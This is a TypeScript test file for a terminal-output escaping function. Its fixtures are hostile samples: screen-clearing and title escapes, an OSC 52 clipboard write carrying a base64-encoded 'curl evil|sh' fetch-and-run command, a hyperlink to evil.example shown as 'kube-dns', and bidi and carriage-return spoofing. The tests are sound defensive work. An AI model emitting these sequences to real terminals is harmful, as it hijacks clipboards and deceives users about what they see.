// Threat-model catalogue A (terminal) at the function level: every hostile fixture comes out with no
// forbidden code point, and the escape text is exactly the documented notation.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { DEFAULT_MAX_BYTES, escapeUntrusted } from '../../../src/core/display/index.js';
import { findForbidden, utf8Size } from './fixtures/escape-oracle.js';

const ESC = '\x1b';
const BEL = '\x07';
const ST = `${ESC}\\`;

// [catalogue id, what it is, hostile input, exact escaped output]
const EXACT: ReadonlyArray<readonly [string, string, string | Uint8Array, string]> = [
  ['A1', 'clear screen', `${ESC}[2J`, '\\x1b[2J'],
  ['A1', 'cursor up and erase line', `${ESC}[1A${ESC}[2K`, '\\x1b[1A\\x1b[2K'],
  ['A2', 'OSC 0 title ended by BEL', `${ESC}]0;pwned${BEL}`, '\\x1b]0;pwned\\x07'],
  ['A2', 'OSC 2 title ended by ST', `${ESC}]2;pwned${ST}`, '\\x1b]2;pwned\\x1b\\\\'],
  ['A3', 'OSC 52 clipboard write', `${ESC}]52;c;Y3VybCBldmlsfHNo${BEL}`, '\\x1b]52;c;Y3VybCBldmlsfHNo\\x07'],
  [
    'A4',
    'OSC 8 hyperlink shown as kube-dns',
    `${ESC}]8;;https://evil.example/${ST}kube-dns${ESC}]8;;${ST}`,
    '\\x1b]8;;https://evil.example/\\x1b\\\\kube-dns\\x1b]8;;\\x1b\\\\',
  ],
  ['A5', 'C1 CSI U+009B', '\u009b2J', '\\u{9b}2J'],
  ['A5', 'DCS (ESC P and C1 U+0090)', `${ESC}Pq#0${ST}\u0090q\u009c`, '\\x1bPq#0\\x1b\\\\\\u{90}q\\u{9c}'],
  ['A5', 'APC (ESC _ and C1 U+009F)', `${ESC}_Gf=100${ST}\u009fx`, '\\x1b_Gf=100\\x1b\\\\\\u{9f}x'],
  ['A6', 'carriage return then overwrite', 'miner\rkube-proxy', 'miner\\x0dkube-proxy'],
  ['A6', 'backspaces', 'evil\b\b\b\bgood', 'evil\\x08\\x08\\x08\\x08good'],
  ['A6', 'bell', `ding${BEL}`, 'ding\\x07'],
  ['A7', 'newline in comm', 'kworker\n/0:1', 'kworker\\x0a/0:1'],
  ['A8', 'RLO override', 'txt.\u202eexe', 'txt.\\u{202e}exe'],
  ['A8', 'RLI, LRI, PDI', '\u2067a\u2066b\u2069', '\\u{2067}a\\u{2066}b\\u{2069}'],
  ['A8', 'ZWJ and ZWSP', 'ku\u200dbe\u200b', 'ku\\u{200d}be\\u{200b}'],
  ['A10', 'NUL in a string', 'a\0b', 'a\\x00b'],
  ['A10', 'invalid UTF-8 bytes and NUL', Uint8Array.from([0x61, 0xff, 0x00, 0xc0, 0xaf, 0x62]), 'a\\xff\\x00\\xc0\\xafb'],
  ['A10', 'UTF-8 encoded surrogate', Uint8Array.from([0xed, 0xa0, 0x80]), '\\xed\\xa0\\x80'],
  ['A10', 'overlong NUL', Uint8Array.from([0xe0, 0x80, 0x80, 0xf0, 0x80, 0x80, 0x80]), '\\xe0\\x80\\x80\\xf0\\x80\\x80\\x80'],
  ['A10', 'beyond U+10FFFF', Uint8Array.from([0xf4, 0x90, 0x80, 0x80]), '\\xf4\\x90\\x80\\x80'],
  ['A10', 'truncated sequence at the end', Uint8Array.from([0xe6, 0xbc]), '\\xe6\\xbc'],
  ['A10', 'valid UTF-8 C1 stays a code point', Uint8Array.from([0xc2, 0x9b, 0xc3, 0xa9]), '\\u{9b}é'],
  ['A10', 'lone surrogate in a string', 'a\ud800b\udfff', 'a\\u{d800}b\\u{dfff}'],
  ['A12', 'tag characters', 'flag\u{e0067}\u{e0062}\u{e007f}', 'flag\\u{e0067}\\u{e0062}\\u{e007f}'],
  ['A12', 'line and paragraph separators', 'a\u2028b\u2029c', 'a\\u{2028}b\\u{2029}c'],
  ['--', 'a backslash is doubled so escapes cannot be forged', 'C:\\x1b', 'C:\\\\x1b'],
  ['--', 'DEL, BOM and word joiner', '\x7f\ufeff\u2060', '\\x7f\\u{feff}\\u{2060}'],
  ['--', 'printable non-ASCII passes unchanged', 'naïve 漢字 😀 Ωμέγα', 'naïve 漢字 😀 Ωμέγα'],
];

for (const [id, what, input, expected] of EXACT) {
  test(`${id} ${what}: escaped exactly as documented, nothing forbidden left`, () => {
    const out = escapeUntrusted(input);
    assert.equal(out, expected);
    assert.equal(findForbidden(out), undefined);
  });
}

test('A1-A8 combined payload keeps no byte in 0x00-0x1f or 0x7f-0x9f once UTF-8 encoded', () => {
  const payload = EXACT.map(([, , input]) => (typeof input === 'string' ? input : '')).join('');
  const bytes = new TextEncoder().encode(escapeUntrusted(payload));
  const bad = bytes.findIndex((b) => b < 0x20 || b === 0x7f);
  assert.equal(bad, -1, `raw control byte at ${bad}`);
  assert.equal(findForbidden(escapeUntrusted(payload)), undefined);
});

// How fast these floods escape is measured by `npm run bench:ui` (target: under 50 ms each), not here:
// a timed assertion would fail on a busy machine for reasons kustody does not control.
test('A9 50,000 combining marks are capped per base character with a visible count', () => {
  const out = escapeUntrusted(`x${'\u0301'.repeat(50_000)}y`);
  assert.equal(out, `x${'\u0301'.repeat(8)}\\…[+49992 marks]y`);
});

test('A9 a 1 MiB line is cut to the byte budget and says how many bytes were hidden', () => {
  const line = 'A'.repeat(1 << 20);
  const out = escapeUntrusted(line);
  const marker = out.slice(out.lastIndexOf('\\…'));
  const kept = out.length - marker.length;
  assert.equal(marker, `\\…[+${(1 << 20) - kept} bytes]`);
  assert.ok(utf8Size(out) <= DEFAULT_MAX_BYTES);
});

test('A9 100,000 emoji are truncated to the byte budget without splitting a surrogate pair', () => {
  const out = escapeUntrusted('😀'.repeat(100_000));
  assert.match(out, /^(?:😀)+\\…\[\+\d+ bytes\]$/u);
  const shown = [...out.slice(0, out.lastIndexOf('\\…'))].length;
  assert.equal(out.slice(out.lastIndexOf('\\…')), `\\…[+${(100_000 - shown) * 4} bytes]`);
  assert.ok(utf8Size(out) <= DEFAULT_MAX_BYTES);
});

test('maxColumns cuts between escapes, never inside one, and the marker fits the budget', () => {
  const input = `${ESC}[2J${ESC}[2J${ESC}[2J`;
  assert.equal(escapeUntrusted(input, { maxColumns: 21 }), '\\x1b[2J\\x1b[2J\\x1b[2J');
  assert.equal(escapeUntrusted(input, { maxColumns: 18 }), '\\x1b[2\\…[+9 bytes]');
  assert.equal(escapeUntrusted(input, { maxColumns: 15 }), '\\…[+12 bytes]');
});

test('maxColumns counts wide characters as two columns', () => {
  assert.equal(escapeUntrusted('漢字漢字漢字漢字漢字', { maxColumns: 20 }), '漢字漢字漢字漢字漢字');
  assert.equal(escapeUntrusted('漢字漢字漢字漢字漢字漢', { maxColumns: 20 }), '漢字漢\\…[+24 bytes]');
});

test('maxBytes counts invalid bytes as the four bytes of their escape', () => {
  assert.equal(escapeUntrusted(new Uint8Array(10).fill(0xff), { maxBytes: 30 }), '\\xff\\xff\\xff\\xff\\…[+6 bytes]');
});

test('a combining mark with no printable base is escaped so it cannot draw on the previous cell', () => {
  assert.equal(escapeUntrusted('\u0338abc'), '\\u{338}abc');
  assert.equal(escapeUntrusted('\x1b\u0338'), '\\x1b\\u{338}');
});

test('the marks marker and the truncation marker cannot be forged by the input', () => {
  assert.equal(escapeUntrusted('\\…[+3 bytes]'), '\\\\…[+3 bytes]');
  assert.equal(escapeUntrusted('\\…[+3 marks]'), '\\\\…[+3 marks]');
});
